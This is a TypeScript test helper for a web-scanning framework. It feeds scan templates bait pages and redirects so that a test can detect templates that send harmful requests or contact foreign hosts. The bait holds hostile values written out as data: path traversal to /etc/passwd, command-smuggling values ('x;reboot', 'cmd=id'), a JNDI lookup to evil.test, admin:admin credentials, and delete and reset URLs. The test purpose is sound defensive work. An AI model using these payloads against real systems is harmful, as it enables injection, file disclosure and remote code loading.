import { loopbackNet } from "@parapet/net/testing/loopback-net";
import { partialDns } from "@parapet/net/testing/partial-net";

import { newSiteVisit } from "../../visit/site-visit.ts";
import { runTemplates, type TemplateRunOptions } from "../run-templates.ts";
import type { Template } from "../template.ts";
import { forbiddenFacts } from "./forbidden-facts.ts";
import { type Answer, type Recorded, startRecordingSite } from "./recording-site.ts";

const NAME = "www.acme.test";

/** Runs templates against a site that records what it is sent; DNS is answered with nothing and its questions are recorded. */
export const runRecorded = async (
  templates: readonly Template[],
  answer: Answer,
  timeoutMs = 60_000,
  { isOwn = true, ...options }: TemplateRunOptions & { readonly isOwn?: boolean } = {},
) => {
  await using site = await startRecordingSite(answer);
  await using net = loopbackNet();
  const asked: string[] = [];
  const dns = partialDns({
    query: async (name) => {
      asked.push(name);
      return { status: "no-name", answers: [], authorities: [], authenticated: false, aliases: [] } as never;
    },
  });
  const url = `http://${NAME}:${site.port}/`;
  const signal = AbortSignal.timeout(timeoutMs);
  const recording = { ...net, http: net.http.bind(net), dns, isOwn: () => isOwn };
  const visit = newSiteVisit({ url, ip: "127.0.0.1" }, recording, signal);
  const run = await runTemplates(templates, visit, recording, url, signal, options);
  const host = `${NAME}:${site.port}`;
  const forbidden = site.recorded.flatMap((it) =>
    forbiddenFacts(it, host).map((fact) => `${it.method} ${it.target}: ${fact}`),
  );
  return {
    ...run,
    recorded: site.recorded as readonly Recorded[],
    forbidden: [...new Set(forbidden)],
    foreignNames: asked.filter((name) => name !== "acme.test" && !name.endsWith(".acme.test")),
  };
};

/** A page full of values that templates extract and put into their next request. */
const BAIT_PAGE = [
  '<input name="csrf" value="../../delete"><input name="_token" value="x;reboot">',
  '{"token":"/logout","id":"1&cmd=id","next":"//evil.test/","version":"1.0/../../etc/passwd","name":"${jndi:ldap://evil.test/a}"}',
  'next=delete version="9.9.9?action=reset" nonce=admin-post.php user: admin password: admin href="/reset?confirm=1"',
].join("\n");

const BAIT_LOCATIONS = [
  "/wp-admin/admin-post.php?do_reset_wordpress=1",
  "/logout",
  "//evil.test/",
  "/a/../../etc/passwd",
  "/item;delete",
  "/%2564elete",
  "/search?q=x&cmd=id",
  "http://admin:admin@www.acme.test/",
  "/users/remove/1",
];

/** The paths that no site has, which answers are compared with. */
const UNLIKELY_NAME = /\/[a-z]{14}(?:\.\w+)*\/?$/;

/** Sites that try to lead a template into harm: by what they answer, by where they redirect to. */
export const BAITS: Readonly<Record<string, () => Answer>> = {
  "a page of hostile values": () => () => ({ status: 200, body: BAIT_PAGE }),
  "redirects to actions": () => {
    let next = 0;
    return (target) =>
      target === "/" || UNLIKELY_NAME.test(target)
        ? { status: target === "/" ? 200 : 404, body: "home" }
        : { status: 302, headers: { location: BAIT_LOCATIONS[next++ % BAIT_LOCATIONS.length] ?? "/" } };
  },
};
